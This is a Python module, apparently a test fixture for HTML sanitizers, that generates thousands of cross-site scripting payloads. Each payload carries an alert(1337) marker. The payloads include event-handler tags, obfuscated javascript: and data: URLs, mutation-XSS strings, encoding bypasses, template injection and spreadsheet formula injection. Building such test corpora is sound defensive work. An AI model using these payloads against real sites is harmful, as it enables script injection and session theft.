"""Text that wants to be code: thousands of ways to write a script, each with the mark that an active node of it would carry."""

from __future__ import annotations

from itertools import product

MARK = "alert(1337)"
_EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
    "onbegin",
    "oncopy",
)
_TAGS = ("img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "marquee", "iframe", "object data=x", "x", "a href=#", "math", "isindex", "select autofocus", "textarea autofocus", "style", "table", "form", "button")  # fmt: skip
_SEPARATORS = (" ", "/", "\t", "\n", "\x0c", "  ", "//", " \x00")
_QUOTES = ('"%s"', "'%s'", "%s", "`%s`")
_URLS = (
    f"javascript:{MARK}", f"JaVaScRiPt:{MARK}", f" javascript:{MARK}", f"java\tscript:{MARK}", f"java\nscript:{MARK}", f"java\x00script:{MARK}", f"\x01javascript:{MARK}", f"javascript&colon;{MARK}",
    f"&#106;avascript:{MARK}", f"&#x6A;avascript:{MARK}", f"&#0000106avascript:{MARK}", f"javascript:/*--></title></style></textarea></script>*/{MARK}", f"vbscript:{MARK}", f"data:text/html,<script>{MARK}</script>",
    f"data:text/html;base64,PHNjcmlwdD5{MARK}", f"data:image/svg+xml,<svg onload={MARK}>", f"feed:javascript:{MARK}", f"view-source:javascript:{MARK}", f'http://x/?" onmouseover={MARK} x="', f"http://x/'onmouseover='{MARK}",
)  # fmt: skip
_LINKS = ('<a href="%s">x</a>', "<a href='%s'>x</a>", '<img src="%s">', '<iframe src="%s"></iframe>', '<form action="%s"><input type=submit></form>', '<button formaction="%s">x</button>', '<object data="%s"></object>', '<embed src="%s">', '<base href="%s">', '<link rel=stylesheet href="%s">', '<svg><a xlink:href="%s">x</a></svg>', '<math href="%s">x</math>', '<body background="%s">', '<table background="%s">', '<meta http-equiv=refresh content="0;url=%s">', '<video poster="%s">', '<area href="%s">', "[x](%s)", "![x](%s)", "<%s>", "[x]: %s\n\n[x]", '<input type=image src="%s">', '<svg><animate attributeName=href values="%s">', '<svg><set attributeName=href to="%s">')  # fmt: skip
_ALONE = (
    f"<script>{MARK}</script>", f"<ScRiPt>{MARK}</sCrIpT>", f"<script/x>{MARK}</script>", f"<script\n>{MARK}</script\n>", f"<<script>{MARK}//<</script>", f"<scr<script>ipt>{MARK}</scr</script>ipt>", f"<script src=//x/{MARK}></script>",
    f"<svg><script>{MARK}</script></svg>", f"<svg><script xlink:href=data:,{MARK} />", f'<math><mi//xlink:href="data:x,<script>{MARK}</script>">', f'<noscript><p title="</noscript><img src=x onerror={MARK}>">', f"<title><img src=x onerror={MARK}></title>",
    f"</title><script>{MARK}</script>", f"</textarea><script>{MARK}</script>", f"</script><script>{MARK}</script>", f"--><script>{MARK}</script>", f"]]><script>{MARK}</script>", f"<![CDATA[<script>{MARK}</script>]]>", f"<!--><img src=x onerror={MARK}>-->", f"<!-- --!><img src=x onerror={MARK}> -->",
    f"<style>@import 'javascript:{MARK}';</style>", f'<div style="background:url(javascript:{MARK})">', f"<div style=width:expression({MARK})>", f"<xss style='behavior:url({MARK})'>", f"<template><script>{MARK}</script></template>", f"<select><template><img src=x onerror={MARK}></template></select>",
    f"&lt;script&gt;{MARK}&lt;/script&gt;", f"&amp;lt;script&amp;gt;{MARK}&amp;lt;/script&amp;gt;", f"%3Cscript%3E{MARK}%3C/script%3E", f"\\u003cscript\\u003e{MARK}\\u003c/script\\u003e", f"\uff1cscript\uff1e{MARK}\uff1c/script\uff1e", f"+ADw-script+AD4-{MARK}+ADw-/script+AD4-",
    f'"><script>{MARK}</script>', f"'><script>{MARK}</script>", f"`><script>{MARK}</script>", f'" autofocus onfocus={MARK} x="', f"' autofocus onfocus={MARK} x='", f"<p><svg><style><!--</style><img src=x onerror={MARK}>--></style>", f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={MARK}>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={MARK}&gt;">', f"```\n</code><script>{MARK}</script>", f"<details><summary>x</summary><img src=x onerror={MARK}></details>", f"{{{{constructor.constructor('{MARK}')()}}}}", f"${{{MARK}}}", f'=HYPERLINK("javascript:{MARK}")', f"=cmd|' /C calc'!A0{MARK}", f"@SUM(1){MARK}", f"+1{MARK}", f"-1{MARK}", f"\t=1{MARK}", f"\x1b]8;;javascript:{MARK}\x07x\x1b]8;;\x07", f"\x9b31m{MARK}", f"\u202e{MARK}",
)  # fmt: skip


def payloads() -> list[str]:
    """Some four thousand, each once."""
    found = list(_ALONE)
    found += [link % url for link, url in product(_LINKS, _URLS)]
    for tag, event, (number, separator) in product(_TAGS, _EVENTS, enumerate(_SEPARATORS)):
        quote = _QUOTES[(number + len(tag) + len(event)) % len(_QUOTES)]
        found.append(f"<{tag.replace(' ', separator, 1)}{separator}{event}={quote % MARK}>")
    for separator in _SEPARATORS:
        found += [
            f"<svg{separator}onload={MARK}//",
            f"<img{separator}src=x{separator}onerror={MARK}//",
            f"<table{separator}background=javascript:{MARK}",
        ]
    return list(dict.fromkeys(found))
